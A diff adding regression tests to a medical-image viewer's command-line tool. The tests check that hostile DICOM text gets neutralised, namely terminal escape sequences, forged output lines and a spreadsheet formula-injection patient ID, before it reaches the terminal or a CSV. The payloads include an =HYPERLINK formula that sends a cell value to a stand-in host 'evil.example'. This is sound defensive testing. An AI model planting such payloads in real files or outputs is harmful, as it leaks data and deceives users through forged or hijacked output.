@@ -54,6 +54,59 @@ def test_info_anonymised_numbers_what_it_would_name(tmp_path, capsys):
     assert "study 1  " in printed and "  series 1.1: 3 slices" in printed and "skipped file 1 of 5: " in printed
 
 
+HOSTILE_DESCRIPTION = "line1\nFAKE: study 9 of 9\x1b]0;TITLE\x07\x1b[31mRED\x1b[2J\u202eevil"
+FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+
+
+def _hostile_study(tmp_path: Path) -> Path:
+    out = tmp_path / "hostile"
+    assert main(["phantom", str(out), "--slices", "3", "--size", "64"]) == 0
+    (out / "labels.csv").unlink()
+    for path in sorted(out.glob("ID_*.dcm")):
+        ds = pydicom.dcmread(path)
+        ds.SpecificCharacterSet = "ISO_IR 192"  # an ESC in UTF-8 text: pydicom warns about an unknown escape
+        ds.SeriesDescription, ds.PatientID = HOSTILE_DESCRIPTION, FORMULA_ID
+        ds.save_as(path)
+    (out / "bad\x1b[2Jname\n.dcm").write_bytes(b"not dicom")
+    return out
+
+
+def test_text_from_files_cannot_steer_the_terminal_or_forge_output_lines(tmp_path, capsys):
+    """Found by an outside tester: `info` printed a description's ESC sequences (clearing the screen, setting the
+    window title) and newline (a forged "study 9 of 9" line) verbatim, and file names likewise."""
+    study = _hostile_study(tmp_path)
+    capsys.readouterr()
+    assert main(["info", str(study)]) == 0
+    printed = capsys.readouterr().out
+    assert "\x1b" not in printed and "\x07" not in printed and "\u202e" not in printed
+    assert not any(line.startswith("FAKE") for line in printed.splitlines())
+    assert "line1\\x0aFAKE: study 9 of 9\\x1b]0;TITLE\\x07" in printed  # shown, as escapes
+    assert "bad\\x1b[2Jname\\x0a.dcm" in printed
+
+
+def test_triage_output_is_spreadsheet_safe_and_its_stderr_free_of_pydicom_chatter(tmp_path):
+    """Found by an outside tester: a patient ID "=HYPERLINK(...)" went into the CSV as a formula a spreadsheet
+    runs, and pydicom's warnings about the file's text (12 lines and a source line) reached triage's stderr."""
+    study = _hostile_study(tmp_path)
+    out = tmp_path / "results" / "slices.csv"
+    out.parent.mkdir()
+    env = {**os.environ, "HOME": str(tmp_path / "home")}
+    run = subprocess.run([sys.executable, "-m", "ich_viewer", "triage", str(study), "--out", str(out)],
+                         capture_output=True, text=True, timeout=300, env=env)
+    assert run.returncode == 0, run.stderr
+    assert "pydicom" not in run.stderr and "Warning" not in run.stderr, run.stderr
+    assert "\x1b" not in run.stderr
+    import csv
+
+    rows = list(csv.DictReader(out.open()))
+    assert len(rows) == 3 and {row["patient"] for row in rows} == {"'" + FORMULA_ID}
+    assert all(row["z"].startswith("-") or float(row["z"]) >= 0 for row in rows)  # numbers are left as they are
+    run = subprocess.run([sys.executable, "-m", "ich_viewer", "triage", str(study)], capture_output=True, text=True,
+                         timeout=300, env=env)  # the table on standard output: no raw ESC either
+    assert run.returncode == 0 and '"\'=HYPERLINK(' in run.stdout, run.stdout  # quoted by the CSV, and defused
+    assert "\x1b" not in run.stdout, [line for line in run.stdout.splitlines() if "\x1b" in line]
+
+
 def test_console_script_help_lists_subcommands():
     run = subprocess.run([sys.executable, "-m", "ich_viewer", "--help"], capture_output=True, text=True, timeout=60)
     assert run.returncode == 0 and "--demo" in run.stdout and "phantom" in run.stdout
